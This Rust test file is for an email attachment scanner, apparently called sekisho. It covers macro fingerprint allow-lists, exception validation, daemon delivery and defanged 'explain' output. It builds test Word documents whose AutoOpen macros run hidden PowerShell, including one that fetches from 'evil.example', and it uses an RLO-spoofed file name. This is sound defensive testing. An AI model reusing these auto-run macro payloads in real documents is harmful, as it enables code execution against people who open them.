//! Exceptions for what is known: macro code by its fingerprint, files by their hash; and what they never forgive.

use std::process::Command;

use sekisho::config::Config;
use sekisho::config::diagnostics::Severity;
use sekisho::knowledge::Knowledge;
use sekisho::limits::Limits;
use sekisho::policy::allow::forgive;
use sekisho::scan::{Input, Report, Stop, scan};
use sekisho::verdict::{Level, judge};

use crate::common::daemon::{Daemon, program};
use crate::common::free_port;
use crate::common::office::{ModuleKind, doc_with_macros, vba_project};
use crate::common::ooxml;
use crate::common::samples::{eicar, macro_document, with_file, with_files};
use crate::common::sink::Sink;

const WORD: &str = "application/vnd.ms-word.document.macroEnabled.12";
const TEXT: [&str; 2] = ["Prices", "of this month"];

/// Starts a program when opened: malicious without asking anybody for anything, if `command` is for an interpreter.
fn document(command: &str, text: &[&str]) -> Vec<u8> {
    let code = format!("Sub AutoOpen()\r\n    Shell {command}, vbHide\r\nEnd Sub\r\n");
    let project = vba_project(&[("ThisDocument", "", ModuleKind::Document), ("Start", &code, ModuleKind::Standard)]);
    ooxml::word(text, Some(project))
}

fn report(file: &[u8]) -> Report {
    scan(Input::file(file.to_vec(), "a.docm"), &Limits::default(), &Knowledge::default(), &Stop::default())
}

fn codes(report: &Report) -> Vec<&str> {
    report.parts.iter().filter_map(|part| part.code_fingerprint.as_deref()).collect()
}

/// The fingerprint of a document with one project that has one.
fn code(file: &[u8]) -> String {
    let report = report(file);
    let [code] = codes(&report)[..] else { panic!("{report:#?}") };
    code.to_owned()
}

/// What is left of a verdict with an exception; `keys` are those beside name and reason.
fn judged(report: &Report, keys: &str, sender: &str) -> (Level, Vec<String>) {
    let text = format!("[[allow]]\nname = \"known\"\nreason = \"a test\"\n{keys}\n");
    let config = Config::parse(&text, "f.toml").unwrap_or_else(|errors| panic!("{errors}"));
    let forgiven = forgive(config.policy.allows(), report, sender, jiff::Timestamp::now());
    (judge(&forgiven.report).level, forgiven.by)
}

const COMMAND: &str = "\"powershell -nop -c echo hello\"";

#[test]
fn code_is_known_again_in_another_copy_and_not_if_it_was_changed() {
    let (first, other) = (document(COMMAND, &TEXT), document(COMMAND, &["Prices", "of the next month"]));
    assert_ne!(first, other);
    assert_eq!(code(&first), code(&other));
    assert_ne!(code(&first), code(&document("\"powershell -nop -c echo hullo\"", &TEXT)));
    // In a binary document too, where it is the same code in another file.
    let body = "Sub AutoOpen()\r\n    Shell \"powershell -nop -c echo hello\", vbHide\r\nEnd Sub\r\n";
    let binary =
        doc_with_macros("Prices", &[("ThisDocument", "", ModuleKind::Document), ("Start", body, ModuleKind::Standard)]);
    assert_eq!(code(&binary), code(&first));
}

#[test]
fn code_that_data_steers_has_no_fingerprint() {
    for steered in [
        "Range(\"A1\").Value",
        "ActiveDocument.Variables(\"x\")",
        "UserForm1.Label1.Caption",
        "\"cmd /c \" & ActiveDocument.BuiltInDocumentProperties(\"Comments\")",
    ] {
        let report = report(&document(steered, &TEXT));
        assert_eq!(codes(&report), Vec::<&str>::new(), "{steered}");
        assert!(report.findings.iter().any(|finding| finding.id.as_str() == "vba-macros"), "{steered}");
    }
    // An honest use of cells is no reason.
    let code = "Sub Workbook_Open()\r\n    Range(\"A1\").Value = Date\r\nEnd Sub\r\n";
    let project = vba_project(&[("ThisWorkbook", code, ModuleKind::Document)]);
    assert_eq!(codes(&report(&ooxml::workbook(&["a", "b"], Some(project)))).len(), 1);
}

#[test]
fn approved_code_is_still_active_and_only_that_part_is_forgiven() {
    let file = document(COMMAND, &TEXT);
    let seen = report(&file);
    assert_eq!(judge(&seen).level, Level::Malicious);
    let key = format!("code_fingerprint = \"{}\"", code(&file).to_uppercase());
    assert_eq!(judged(&seen, &key, ""), (Level::Active, vec!["known".to_owned()]));
    // Narrowed to one finding, the others count.
    let narrow = format!("{key}\nfinding = \"vba-autoexec\"");
    assert_eq!(judged(&seen, &narrow, ""), (Level::Active, vec!["known".to_owned()]));
    assert_eq!(judged(&seen, &format!("{key}\nfinding = \"vba-event\""), ""), (Level::Malicious, vec![]));
    // Another sender, another time.
    let sender = format!("{key}\nsender = \"@partner.example\"");
    assert_eq!(judged(&seen, &sender, "a@partner.example").0, Level::Active);
    assert_eq!(judged(&seen, &sender, "a@other.example"), (Level::Malicious, vec![]));
    assert_eq!(judged(&seen, &format!("{key}\nuntil = 2020-01-31"), "").0, Level::Malicious);
    assert_eq!(judged(&seen, &format!("{key}\nuntil = 2999-01-31"), "").0, Level::Active);
    // The same code beside another one, or the test file: what is not named still counts.
    let key = format!("code_fingerprint = [\"{}\"]", code(&file));
    let other = document("\"mshta x\"", &TEXT);
    for (name, content, level) in
        [("b.docm", other.as_slice(), Level::Malicious), ("e.com", &eicar(), Level::Malicious)]
    {
        let message = with_files("prices", &[("a.docm", &file), (name, content)]);
        let seen = scan(Input::message(message), &Limits::default(), &Knowledge::default(), &Stop::default());
        assert_eq!(judged(&seen, &key, "").0, level, "{name}");
    }
}

#[test]
fn what_hides_is_known_or_was_not_inspected_is_never_forgiven() {
    let lured = report(&macro_document());
    let hash = lured.parts.iter().find(|part| !part.sha256.is_empty()).unwrap().sha256.clone();
    assert_eq!(judged(&lured, &format!("sha256 = \"{hash}\""), "").0, Level::Active, "everything inside");
    let known = report(&eicar());
    let hash = known.parts[0].sha256.clone();
    assert_eq!(judged(&known, &format!("sha256 = \"{hash}\""), ""), (Level::Malicious, vec![]));
    let cut = Limits { max_recursion: 1, ..Limits::default() };
    let cut = scan(Input::file(macro_document(), "a.docm"), &cut, &Knowledge::default(), &Stop::default());
    let hash = cut.parts.iter().find(|part| !part.sha256.is_empty()).unwrap().sha256.clone();
    let text = format!("[[allow]]\nname = \"a\"\nreason = \"b\"\nsha256 = \"{hash}\"\n");
    let allows = Config::parse(&text, "f.toml").unwrap();
    let forgiven = forgive(allows.policy.allows(), &cut, "", jiff::Timestamp::now());
    assert_eq!(judge(&forgiven.report).complete, judge(&cut).complete);
}

#[test]
fn a_wrong_exception_is_told_and_does_not_come_into_force() {
    let hash = "00".repeat(32);
    for (keys, severity, words) in [
        (String::new(), Severity::Error, "names no part"),
        ("code_fingerprint = \"abc\"".to_owned(), Severity::Error, "not a fingerprint"),
        (format!("sha256 = \"{hash}\"\nfinding = \"password-told\""), Severity::Error, "can be forgiven"),
        (format!("sha256 = \"{hash}\"\nuntil = \"soon\""), Severity::Error, "not a day"),
        (format!("sha256 = \"{hash}\"\nuntil = 2026-01-01T00:00:00Z"), Severity::Error, "not a day"),
        (format!("sha256 = \"{hash}\"\nuntil = 2020-01-01"), Severity::Warning, "has ended"),
        (format!("sha256 = \"{hash}\"\nsender = \"partner\""), Severity::Error, "not an address"),
        (format!("sha256 = \"{hash}\"\nwho = \"me\""), Severity::Error, "unknown key"),
    ] {
        let text = format!("[[allow]]\nname = \"a\"\nreason = \"b\"\n{keys}\n");
        let (config, found) = Config::check(&text, "f.toml");
        let [problem] = &found.0[..] else { panic!("{keys}: {found}") };
        assert!(problem.to_string().contains(words) && problem.severity == severity, "{keys}: {problem}");
        assert_eq!(config.policy.allows().is_empty(), severity == Severity::Error, "{keys}");
    }
    for (text, words) in [
        (format!("[[allow]]\nsha256 = \"{hash}\"\nreason = \"b\"\n"), "no `name`"),
        (format!("[[allow]]\nname = \"a\"\nsha256 = \"{hash}\"\n"), "no `reason`"),
        (format!("[[allow]]\nname = \"a\"\nsha256 = \"{hash}\"\nreason = \" \"\n"), "nobody will know why"),
        (format!("[[allow]]\nname = \"a\"\nreason = \"b\"\nsha256 = \"{hash}\"\n").repeat(2), "in line 1 already"),
    ] {
        let found = Config::check(&text, "f.toml").1.to_string();
        assert!(found.contains(words), "{text}: {found}");
    }
}

#[test]
fn the_daemon_delivers_what_is_approved_and_logs_by_what() {
    let file = document(COMMAND, &TEXT);
    let rules = format!(
        "[[allow]]\nname = \"prices\"\ncode_fingerprint = \"{0}\"\nreason = \"a test\"\n\n\
         [[rule]]\nname = \"known\"\nwhen.code_fingerprint = \"{0}\"\nwhen.attachment_name = \"*.docm\"\naction = \"pass\"\n",
        code(&file)
    );
    let sink = Sink::start();
    let mut daemon = Daemon::with("before-queue", free_port(), sink.port(), &rules);
    daemon.start();
    let mut client = crate::common::client::Client::connect(daemon.port()).expect("a session");
    let mut send = |sender: &str, file: &[u8]| {
        let message = with_file("prices", "prices.docm", WORD, file);
        client.send_for(None, sender, &["u@inside.test"], &message).expect("a reply");
        daemon.message_with(&format!("\"from\":\"{sender}\""))
    };
    let approved = send("a@outside.test", &file);
    assert_eq!(
        (&approved["disposition"], &approved["rule"], &approved["verdict"]),
        (&"pass".into(), &"known".into(), &"active".into()),
        "{approved}"
    );
    assert_eq!(approved["allowed_by"], serde_json::json!(["prices"]));
    assert!(approved["findings"].as_array().unwrap().contains(&"vba-run-interpreter".into()), "{approved}");
    let changed = send("b@outside.test", &document("\"powershell -nop -c echo bye\"", &TEXT));
    assert_eq!((&changed["disposition"], &changed["verdict"]), (&"quarantine".into(), &"malicious".into()));
    assert!(changed.get("allowed_by").is_none(), "{changed}");
    assert_eq!(sink.mails().len(), 1);
}

fn sekisho(arguments: &[&str]) -> (String, String, Option<i32>) {
    let output = Command::new(program()).args(arguments).env("LANG", "C").output().expect("the program runs");
    let text = |octets: &[u8]| String::from_utf8_lossy(octets).into_owned();
    (text(&output.stdout), text(&output.stderr), output.status.code())
}

#[test]
fn what_explain_says_can_be_pasted_and_does_what_it_says() {
    let folder = tempfile::tempdir().unwrap();
    let (file, config) = (folder.path().join("prices.docm"), folder.path().join("f.toml"));
    let content = document(COMMAND, &TEXT);
    std::fs::write(&file, &content).unwrap();
    std::fs::write(&config, "").unwrap();
    let ask = |more: &[&str]| {
        let config = config.to_str().unwrap();
        let all = [&["explain", "--config", config][..], more, &[file.to_str().unwrap()]].concat();
        sekisho(&all)
    };
    let (out, err, code_of_exit) = ask(&[]);
    assert_eq!((err.as_str(), code_of_exit), ("", Some(0)));
    for expected in [
        "malicious, everything was inspected",
        "└─ word/vbaProject.bin  ole-vba+ole",
        &format!("macro code {}", code(&content)),
        "high     vba-autoexec: runs by itself when opened (AutoOpen)  [Start:1]",
        "command  powershell -nop -c echo hello",
        "▸ (malicious)              applies",
        "without any trigger      it would be active",
        "makes it active:",
    ] {
        assert!(out.contains(expected), "{expected}\n{out}");
    }
    let (_, pasted) = out.split_once("makes it active:\n").unwrap();
    let pasted = pasted.replace("name = \"…\"", "name = \"a\"").replace("until = …", "until = 2999-12-31");
    std::fs::write(&config, pasted.replace("reason = \"…\"", "reason = \"b\"")).unwrap();
    let (out, err, _) = ask(&["--lang", "ja"]);
    assert!(err.is_empty() && out.contains("Allowed by  a\n") && out.contains("pass (rule (default))"), "{err}{out}");
    assert!(out.contains("は、マクロを含みます。"), "{out}");
    assert!(!out.contains("What would change"), "{out}");
}

#[test]
fn explain_shows_hostile_names_and_addresses_so_that_they_do_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("m.eml");
    let content = document("\"powershell -c iwr http://evil.example/a\"", &TEXT);
    std::fs::write(&file, with_file("a", "re\u{202e}cod.docm", WORD, &content)).unwrap();
    let (out, _, _) = sekisho(&["explain", file.to_str().unwrap()]);
    assert!(out.contains("re⟦U+202E⟧cod.docm") && out.contains("hxxp://evil[.]example/a"), "{out}");
    assert!(!out.contains("http://evil.example") && !out.contains('\u{202e}'), "{out}");
    let (out, err, code) = sekisho(&["explain", "/nonexistent"]);
    assert!(out.is_empty() && err.contains("/nonexistent") && code == Some(66), "{err}");
}

#[test]
fn findings_are_listed_and_told_one_by_one() {
    let (all, _, code) = sekisho(&["findings"]);
    assert_eq!((all.lines().count(), code), (sekisho::finding::ALL.len(), Some(0)));
    let (one, _, _) = sekisho(&["findings", "archive-encrypted"]);
    for expected in ["uninspected", "encrypted (when.reason)", "T1027/013", "暗号化", "never"] {
        assert!(one.contains(expected), "{expected}\n{one}");
    }
    let (json, _, _) = sekisho(&["findings", "--json", "vba-*"]);
    for line in json.lines() {
        let object: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(object["id"].as_str().unwrap().starts_with("vba-") && object["schema"] == "sekisho.finding/1");
    }
    let (out, err, code) = sekisho(&["findings", "vba-autoexek"]);
    assert!(out.is_empty() && err.contains("did you mean vba-autoexec?") && code == Some(64), "{err}");
}
